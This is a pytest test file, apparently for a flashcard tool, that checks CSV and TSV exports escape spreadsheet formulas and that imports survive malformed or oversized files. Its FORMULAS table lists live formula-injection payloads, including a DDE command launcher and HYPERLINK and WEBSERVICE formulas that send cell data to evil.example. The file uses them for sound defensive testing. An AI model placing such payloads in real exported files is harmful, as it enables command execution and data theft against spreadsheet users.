"""A table that is exported is no program of a spreadsheet, and gives the same text when it is imported again."""

from __future__ import annotations

import csv
import io

import pytest

FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a plus": "+1+1",
    "a minus": "-1",
    "a command behind a minus": "-2+3+cmd|' /C calc'!A0",
    "a function": "@SUM(A1:A2)",
    "a link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "a web service": '=WEBSERVICE("http://evil.example")',
    "a full-width sign": "＝1+1",
    "full-width plus, minus, at": "＋1 －1 ＠x",
    "a full-width minus": "－1+1",
    "a full-width at": "＠SUM(A1)",
    "a full-width plus": "＋1",
    "quotes and a separator": '=1+1";=1+1',
    "a comma and a formula": "a,=1+1",
    "a percent sign and more": "%0A=1+1",
    "an apostrophe before": "'=1+1",
    "two apostrophes before": "''=1+1",
    "an apostrophe": "'tis",
    "a space before": "  =1+1",
    "spaces of other scripts before": "\u00a0=1+1",
    "a mark before": "\u200b=1+1",
}
DANGEROUS = "=+-@\t\r\n＝＋－＠"


def cells_of(text: str, delimiter: str) -> list[str]:
    """Every cell below the header."""
    return [cell for row in list(csv.reader(io.StringIO(text), delimiter=delimiter))[1:] for cell in row]


def note(text: str, slug: str) -> str:
    """A note with a text in every field that a table has."""
    hint = f"### Hint\n\n{text}\n\n### Sources\n\n- {text}\n"
    return f"## {text} {{#{slug} tags=-x,+y,@z}}\n\n{text}\n\n{hint}"


@pytest.mark.parametrize(("suffix", "delimiter"), [("csv", ","), ("tsv", "\t")])
@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in FORMULAS.items()])
def test_no_cell_is_a_formula_and_every_text_comes_back(on_screen, put, tmp_path, monkeypatch, text, suffix, delimiter):
    assert on_screen("import", str(put("evil.md", note(text, "f")))).code == 0
    out = tmp_path / f"out.{suffix}"
    assert on_screen("export", str(out)).code == 0

    cells = cells_of(out.read_text(encoding="utf-8"), delimiter)
    again = on_screen("--db", str(tmp_path / "other.db"), "import", str(out))
    second = tmp_path / f"second.{suffix}"
    assert on_screen("--db", str(tmp_path / "other.db"), "export", str(second)).code == 0

    assert [
        cell for cell in cells if cell.lstrip(" \u00a0\u200b")[:1] in tuple(DANGEROUS) and cell[:1] in tuple(DANGEROUS)
    ] == []
    assert again.out.startswith("1 added")
    assert second.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
    shown = [
        on_screen("--db", str(tmp_path / db), "show", "evil/f", "--json").json for db in ("bedrill.db", "other.db")
    ]
    assert [shown[0][key] for key in ("question", "answer")] == [shown[1][key] for key in ("question", "answer")]


@pytest.mark.parametrize("name", ["=1+1", "-1", "+1", "@x"])
def test_names_from_elsewhere_are_no_formulas_either(on_screen, put, tmp_path, name):
    line = f'{{"bedrill":1}}\n{{"deck":"d","note":"{name}","text":"## Is it?\\n\\nA","slug":"s"}}\n'
    assert on_screen("import", str(put("x.jsonl", line))).out.startswith("1 added")
    on_screen("export", str(tmp_path / "o.csv"))

    cells = cells_of((tmp_path / "o.csv").read_text(), ",")
    again = on_screen("import", str(tmp_path / "o.csv"))

    assert f"'{name}" in cells
    assert again.out.startswith("0 added")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param("a,b\n" + '"' * 100_001 + "\n", id="quotes"),
        pytest.param("a,b\n" + "," * 500_000 + "\n", id="half a million columns"),
        pytest.param("front,back\n" + "q" * 2_000_000 + ",a\n", id="a cell of two megabytes"),
        pytest.param("front,back\r" * 15_000, id="carriage returns"),
        pytest.param("x" * 10_000_000, id="ten megabytes on one line"),
        pytest.param("#separator:\x00\nq\x00a\n", id="NUL between columns"),
        pytest.param("#columns:" + "question," * 50_000 + "\nq,a\n", id="very many names"),
        pytest.param("#separator:==\nq==a\n", id="two signs between columns"),
        pytest.param("#separator:\nq,a\n", id="nothing between columns"),
        pytest.param('#separator:"\nq"a\n', id="a quote between columns"),
        pytest.param(
            "#guid column:" + "9" * 5_000 + "\n#deck column:-1\nq\ta\n", id="a column of five thousand digits"
        ),
        pytest.param("#guid column:²\nq\ta\n", id="a column that only looks like a number"),
        pytest.param("#deck:" + "a::" * 50_000 + "\nq\ta\n", id="a very deep deck"),
    ],
)
def test_a_table_that_means_harm_is_read_or_one_line(tmp_path, put, content):
    from tests.hostile.process import run_lines

    path = str(put("evil.csv", content))

    results = run_lines(tmp_path, [("import", path), ("import", path, "--dry-run")])

    for result in results:
        assert result.code in (0, 1)
        assert "bug" not in result.err
